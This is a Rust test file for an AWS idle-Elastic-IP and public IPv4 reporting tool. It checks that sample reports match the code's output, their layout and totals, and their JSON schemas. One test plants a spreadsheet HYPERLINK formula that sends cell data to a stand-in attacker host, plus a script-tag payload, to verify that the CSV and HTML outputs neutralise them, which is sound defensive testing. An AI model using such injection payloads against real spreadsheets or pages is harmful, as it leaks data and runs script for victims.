//! The samples in docs/examples are what the code writes: rendered again from
//! the same fixed inputs, every file must equal the committed one. A change
//! to a renderer or to the analysis shows here; `make samples` writes them anew.

use std::path::Path;

#[test]
fn the_committed_samples_are_what_the_code_writes() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/examples");
    let samples = vpcwarden_e2e::samples::all();
    assert_eq!(samples.len(), 8, "two reports in four formats");
    let mut stale = Vec::new();
    for (name, body) in &samples {
        let committed = std::fs::read_to_string(dir.join(name)).unwrap_or_default();
        if committed != *body {
            let line = committed
                .lines()
                .zip(body.lines())
                .position(|(a, b)| a != b)
                .map_or_else(|| "length".to_string(), |i| format!("line {}", i + 1));
            stale.push(format!("docs/examples/{name} (first difference: {line})"));
        }
    }
    assert!(
        stale.is_empty(),
        "samples differ from what the code writes — run `make samples` and commit:\n{}",
        stale.join("\n")
    );
}

#[test]
fn the_samples_say_what_a_reader_needs_first() {
    let samples = vpcwarden_e2e::samples::all();
    let get = |name: &str| &samples.iter().find(|(n, _)| n == name).unwrap().1;
    let md = get("idle-eips.md");
    let lines: Vec<&str> = md.lines().collect();
    // Title, then the window, the threshold and the coverage, then the answer.
    assert_eq!(lines[0], "# Idle Elastic IPs — 2026-12-01 06:00 UTC");
    assert!(lines[2].starts_with("Window 90 days (2026-09-02 to 2026-12-01) · flagged after 7 idle days · trail coverage complete"), "{md}");
    assert!(
        lines[4].starts_with("**6 of 9 Elastic IPs idle ($21.90/month); 4 flagged"),
        "{md}"
    );
    let at = |s: &str| md.find(s).unwrap_or_else(|| panic!("{s:?} missing:\n{md}"));
    assert!(at("## Totals") < at("## Idle addresses (6)"));
    assert!(at("## Idle addresses (6)") < at("## In use (3)"));
    // At most eight columns; names, owners and notes are in the table.
    for l in md.lines().filter(|l| l.starts_with("| ")) {
        let columns = l.matches(" | ").count() + 1;
        assert!(columns <= 8, "{columns} columns: {l}");
    }
    assert!(md.contains("| 54.80.10.2 (eipalloc-00000000000000002) | 111122223333 / us-east-1 | 2026-10-22 | 39.8 | $3.65 | old-bastion / team-platform | release? |"), "{md}");
    assert!(
        md.contains("stopped since 2026-11-11: AWS bills it as an idle address"),
        "{md}"
    );
    assert!(
        md.contains("| dr-standby / team-platform | excluded |"),
        "{md}"
    );
    // Totals per account and region equal the rows they sum.
    assert!(
        md.contains("| 111122223333 | 5 | 3 | 0 | 2 | $10.95 | $7.30 |"),
        "{md}"
    );
    assert!(
        md.contains("| eu-west-1 | 4 | 4 | 0 | 2 | $14.60 | $7.30 |"),
        "{md}"
    );

    let ipv4 = get("public-ipv4.md");
    assert!(
        ipv4.starts_with("# Public IPv4 addresses — 2026-12-01 06:00 UTC\n"),
        "{ipv4}"
    );
    // Each named holder is in the sample with its way out.
    for holder in [
        "ECS task",
        "Redshift cluster",
        "DMS replication instance",
        "Amazon MQ broker",
        "WorkSpaces desktop",
        "Transfer Family server endpoint",
        "Client VPN endpoint",
        "unrecognised service",
    ] {
        assert!(ipv4.contains(holder), "{holder} missing");
    }
    let csv = get("idle-eips.csv");
    assert!(csv.starts_with("allocation_id,public_ip,region,account,status,"));
    assert_eq!(csv.lines().count(), 10, "a header and every address");
}

#[test]
fn a_formula_or_markup_in_a_tag_stays_text_in_every_format() {
    use vpcwarden_report::{render, Format, Report};
    let evil = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
    let mut r = vpcwarden_e2e::samples::idle_eips();
    let a = &mut r.addresses[0];
    let ip = a.public_ip.clone();
    a.tags.insert("Name".into(), evil.into());
    a.tags.insert(
        "owner".into(),
        "team-a\nsecond line, \"quoted\"\r\n<script>alert(1)</script>".into(),
    );

    let csv = render(Report::IdleEips(&r), Format::Csv);
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|row| row.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(
        rows.len(),
        r.addresses.len(),
        "one row per address, line breaks inside cells:\n{csv}"
    );
    let header: Vec<String> = csv
        .lines()
        .next()
        .unwrap()
        .split(',')
        .map(str::to_string)
        .collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows.iter().find(|row| row[col("public_ip")] == ip).unwrap();
    assert_eq!(
        row[col("name")],
        format!("'{evil}"),
        "a spreadsheet reads it as text"
    );
    assert_eq!(
        row[col("owner")],
        "team-a\nsecond line, \"quoted\"\r\n<script>alert(1)</script>"
    );

    let html = render(Report::IdleEips(&r), Format::Html);
    assert!(!html.contains("<script>"), "markup in a tag is escaped");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    let md = render(Report::IdleEips(&r), Format::Markdown);
    let line = md
        .lines()
        .find(|l| l.contains(&ip) && l.starts_with("| "))
        .unwrap();
    assert!(
        line.contains("team-a second line"),
        "a line break in a tag stays in its row: {line}"
    );
}

#[test]
fn the_sample_json_documents_match_their_schemas() {
    let samples = vpcwarden_e2e::samples::all();
    let doc = |name: &str| -> serde_json::Value {
        serde_json::from_str(&samples.iter().find(|(n, _)| n == name).unwrap().1).unwrap()
    };
    let idle = doc("idle-eips.json");
    vpcwarden_e2e::eip::assert_report_schema(&idle);
    assert_eq!(
        idle["history"].as_array().unwrap().len(),
        91,
        "a point per day of the window"
    );
    assert_eq!(idle["addresses"][0]["tags"]["Name"], "dr-standby");
    vpcwarden_e2e::eip::assert_schema(
        &doc("public-ipv4.json"),
        "docs/public-ipv4-report.schema.json",
    );
}
